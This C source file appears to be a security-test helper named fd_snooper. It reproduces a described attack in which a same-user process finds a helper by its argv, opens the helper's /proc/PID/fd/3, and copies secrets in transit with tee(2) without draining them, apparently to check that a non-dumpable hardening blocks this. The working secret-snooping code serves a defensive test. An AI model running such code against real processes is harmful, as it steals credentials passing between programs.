/* The attack of issue 23: a process of the same user watches for a helper whose argv holds
 * NAME and copies whatever waits on its fd 3, without consuming it (tee(2)), as the secret
 * would pass through. Usage: fd_snooper NAME SECONDS. Prints how many processes it saw, how
 * many opens of /proc/PID/fd/3 failed with which errno, and what it copied.
 * Built by test_hardening.sh; it must copy something from an ordinary dumpable process. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXP 64

/* A process of this user (others' are not the attack) whose argv holds NAME. The real uid from
 * /proc/PID/status: /proc/PID itself belongs to root once the process is non-dumpable. */
static int matches(const char *pid, const char *name) {
    char path[300], buf[4096];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *status = fopen(path, "r");
    if (!status) return 0;
    unsigned uid = (unsigned)-1;
    while (fgets(buf, sizeof buf, status))
        if (sscanf(buf, "Uid: %u", &uid) == 1) break;
    fclose(status);
    if (uid != getuid()) return 0;
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    for (char *p = buf; p < buf + n; p += strlen(p) + 1)
        if (strcmp(p, name) == 0) return 1;
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "usage: fd_snooper NAME SECONDS\n"); return 2; }
    const char *name = argv[1];
    double seconds = atof(argv[2]);
    int seen[MAXP], held[MAXP], nseen = 0, errors[256] = {0};
    char copied[4096];
    size_t ncopied = 0;
    int out[2];
    if (pipe(out) != 0) return 2;
    fcntl(out[0], F_SETFL, O_NONBLOCK);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    int self = getpid();
    do {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || !matches(e->d_name, name)) continue;
            int i;
            for (i = 0; i < nseen && seen[i] != pid; i++) {}
            if (i == nseen) {
                if (nseen == MAXP) continue;
                seen[nseen] = pid; held[nseen] = -1; nseen++;
            }
            if (held[i] != -1) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/3", pid);
            int fd = open(path, O_RDONLY | O_NONBLOCK);
            if (fd >= 0) held[i] = fd;
            else if (errno < 256) errors[errno]++;
        }
        if (d) closedir(d);
        /* What waits in a held pipe is copied, not consumed: the owner still reads it all. */
        for (int i = 0; i < nseen; i++) {
            if (held[i] < 0) continue;
            ssize_t n = tee(held[i], out[1], 4096, SPLICE_F_NONBLOCK);
            if (n <= 0) continue;
            ssize_t r = read(out[0], copied + ncopied, sizeof copied - 1 - ncopied);
            if (r > 0) ncopied += r;
            /* Seen once is enough: stop copying from this one. */
            close(held[i]); held[i] = -2;
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
    int opened = 0;
    for (int i = 0; i < nseen; i++) if (held[i] != -1) opened++;
    printf("seen %d\nopened %d\n", nseen, opened);
    for (int i = 0; i < 256; i++) if (errors[i]) printf("errno %s\n", strerrorname_np(i));
    copied[ncopied] = 0;
    printf("copied %zu: %s\n", ncopied, copied);
    return 0;
}
